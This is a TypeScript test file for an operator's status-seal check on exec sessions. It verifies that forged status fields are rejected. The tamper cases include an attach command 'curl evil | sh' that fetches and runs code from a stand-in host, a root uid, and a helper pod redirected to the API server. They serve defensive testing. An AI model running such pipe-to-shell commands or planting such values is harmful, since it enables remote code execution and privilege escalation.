import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { ExecSessionStatus } from '../api/types.js';
import { mergePatch, needsSeal, sealOf, sealProblem, sealedPatch, type SealedSession } from './seal.js';

const KEY = Buffer.alloc(32, 1);
const META = { namespace: 'shop', name: 'dbg', uid: 'u-1' };

/** A Ready session's status as the controller writes it. */
const READY: ExecSessionStatus = {
  phase: 'Ready', node: 'node-1', container: 'app', containerID: 'abc123abc123', runtime: 'containerd', backend: 'runtime',
  user: { uid: 1000, gid: 1000, groups: [1000, 2000], name: 'alice', home: '/home/alice', shell: '/bin/sh', root: false, rootGroup: false },
  helperPod: { namespace: 'execsession-system', name: 'execsession-u-1' },
  startedAt: '2026-01-01T10:00:00Z', expiresAt: '2026-01-01T10:15:00Z',
  attach: { url: 'https://k8s:6443/apis/x', command: 'kubectl execsession attach dbg -n shop' },
  message: 'ready', conditions: [],
};

function sealed(status: ExecSessionStatus): SealedSession {
  return { metadata: META, status: { ...status, seal: sealOf(KEY, { metadata: META }, status) } };
}

describe('needsSeal', () => {
  it('is false for a session that has not started, true once anything the operator acts on is there', () => {
    assert.equal(needsSeal(undefined), false);
    assert.equal(needsSeal({}), false);
    assert.equal(needsSeal({ phase: 'Pending', message: 'waiting for the pod' }), false);
    assert.equal(needsSeal({ phase: 'WaitingForApproval', approvals: [] }), false);
    assert.equal(needsSeal({ phase: 'Approved' }), false);
    assert.equal(needsSeal({ phase: 'Pending', expiresAt: '2026-01-01T10:15:00Z' }), true);
    assert.equal(needsSeal({ user: { ...READY.user!, uid: 0, gid: 0, root: true } }), true);
    for (const phase of ['Starting', 'Ready', 'Running'] as const) assert.equal(needsSeal({ phase }), true, phase);
  });
});

describe('sealProblem', () => {
  it('accepts the status as the operator sealed it, and an unsealed session that has not started', () => {
    assert.equal(sealProblem(KEY, sealed(READY)), undefined);
    assert.equal(sealProblem(KEY, { metadata: META, status: { phase: 'Pending' } }), undefined);
    assert.equal(sealProblem(KEY, { metadata: META }), undefined);
  });

  it('accepts changes to fields it does not cover (message, conditions, approvals, revocation)', () => {
    const s = sealed(READY);
    s.status = { ...s.status, message: 'edited', conditions: [{ type: 'Ready', status: 'False', reason: 'X', message: '', lastTransitionTime: 't' }], revocation: { username: 'eve', at: 't' } };
    assert.equal(sealProblem(KEY, s), undefined);
  });

  it('refuses uid 0 written into status.user, and any other sealed field changed', () => {
    const changes: Partial<ExecSessionStatus>[] = [
      { user: { ...READY.user!, uid: 0, root: true } },
      { user: { ...READY.user!, groups: [1000, 2000, 0] } },
      { containerID: 'def456def456' },
      { helperPod: { namespace: 'kube-system', name: 'kube-apiserver-node-1' } },
      { backend: 'nsenter' },
      { expiresAt: '2027-01-01T00:00:00Z' },
      { startedAt: '2026-01-01T11:00:00Z' },
      { phase: 'Running' },
      { attach: { url: 'https://evil', command: 'curl evil | sh' } },
      { node: 'node-2' },
    ];
    for (const c of changes) {
      const s = sealed(READY);
      s.status = { ...s.status, ...c };
      assert.match(sealProblem(KEY, s) ?? '', /^its status was written by someone other than the execsession operator: status\.seal does not match/, JSON.stringify(c));
    }
  });

  it('refuses a sealed field removed, a seal removed, and a seal copied from another session or made with another key', () => {
    const noExpiry = { ...sealed(READY).status!, expiresAt: undefined };
    assert.match(sealProblem(KEY, { metadata: META, status: noExpiry }) ?? '', /does not match/);
    const unsealed = { ...sealed(READY).status!, seal: undefined };
    assert.match(sealProblem(KEY, { metadata: META, status: unsealed }) ?? '', /status\.seal is missing/);
    const other = sealed(READY);
    assert.match(sealProblem(KEY, { metadata: { ...META, uid: 'u-2' }, status: other.status }) ?? '', /does not match/);
    assert.match(sealProblem(Buffer.alloc(32, 2), sealed(READY)) ?? '', /does not match/);
  });

  it('reads "" and absent as one value, as the API server stores them', () => {
    const s = sealed({ ...READY, user: { ...READY.user!, name: '' } });
    s.status = { ...s.status, user: { ...READY.user!, name: undefined } };
    assert.equal(sealProblem(KEY, s), undefined);
  });
});

describe('sealedPatch', () => {
  it('seals the status the merge patch leaves behind, so that it verifies after the write', () => {
    const before: SealedSession = sealed({ ...READY, phase: 'Starting', user: undefined, backend: undefined, attach: undefined });
    const patch: Partial<ExecSessionStatus> = { phase: 'Ready', user: READY.user, backend: 'runtime', attach: READY.attach, message: 'ready' };
    const written = sealedPatch(KEY, before, patch);
    const after = { metadata: META, status: mergePatch(before.status, written) as ExecSessionStatus };
    assert.equal(sealProblem(KEY, after), undefined);
    assert.equal(after.status.user?.uid, 1000);
  });

  it('keeps what a merge patch keeps: a nested field the patch leaves out stays, and is sealed as it stays', () => {
    const before = sealed(READY);
    // A merge patch may carry part of an object; the operator never writes one, but the seal must follow RFC 7386.
    const written = sealedPatch(KEY, before, { user: { uid: 1000, gid: 1000 } } as Partial<ExecSessionStatus>);
    const after = { metadata: META, status: mergePatch(before.status, written) as ExecSessionStatus };
    assert.equal(after.status.user?.home, '/home/alice');
    assert.equal(sealProblem(KEY, after), undefined);
  });

  it('adds no seal while nothing needs one', () => {
    assert.deepEqual(sealedPatch(KEY, { metadata: META, status: {} }, { phase: 'WaitingForApproval', message: 'm' }), { phase: 'WaitingForApproval', message: 'm' });
  });
});

describe('mergePatch', () => {
  it('merges objects, deletes on null, replaces arrays and scalars', () => {
    assert.deepEqual(mergePatch({ a: { b: 1, c: 2 }, d: [1, 2], e: 1 }, { a: { c: null, f: 3 }, d: [3], e: 'x', g: undefined }), { a: { b: 1, f: 3 }, d: [3], e: 'x' });
  });
});
